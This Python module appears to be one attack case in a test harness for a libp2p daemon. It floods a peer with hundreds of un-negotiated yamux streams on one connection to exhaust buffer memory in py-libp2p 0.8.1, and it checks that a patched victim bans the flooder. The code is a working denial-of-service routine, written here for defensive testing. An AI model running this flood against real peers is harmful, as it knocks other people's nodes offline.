"""Many streams held open on one connection, none ever negotiated (issue 16 item 3, per connection).

The receive window bounds what one yamux stream may buffer (256 KiB), but py-libp2p 0.8.1 accepts
any number of inbound streams per connection, each allowed a window's worth of data before its
protocol is negotiated (the library waits 30 s for that): N streams cost N windows. The attacker
opens ``streams`` raw muxer streams and holds them. A patched victim resets each stream past
``MAX_INBOUND_STREAMS`` and counts a fault: the flood ends in a ban (docs/library-patches.md).
"""

from __future__ import annotations

import trio
from libp2p.peer.id import ID

from garage_p2p.daemon import Peer

from . import Target


async def attack(
    attacker: Peer, victim: Target, *, streams: int = 300, timeout: float = 20.0
) -> dict[str, int | float | str]:
    """Open ``streams`` streams on one connection without negotiating a protocol on any; hold them."""
    await attacker.mesh.connect(victim.peer_id, list(victim.addrs))
    muxer = attacker.mesh.host.get_network().get_connections(ID.from_base58(victim.peer_id))[0].muxed_conn
    muxer.stream_backlog_semaphore = trio.Semaphore(streams)  # our own muxer caps outbound streams at 256
    opened, ended = 0, "opened every stream"
    with trio.move_on_after(timeout):
        try:
            for _ in range(streams):
                await muxer.open_stream()  # a SYN, no multistream header: the victim's handler waits
                opened += 1
        except Exception as exc:  # the victim closed the connection: what a banning peer does
            ended = f"{type(exc).__name__}: {exc}"[:200]
    return {"streams": streams, "opened": opened, "ended": ended}
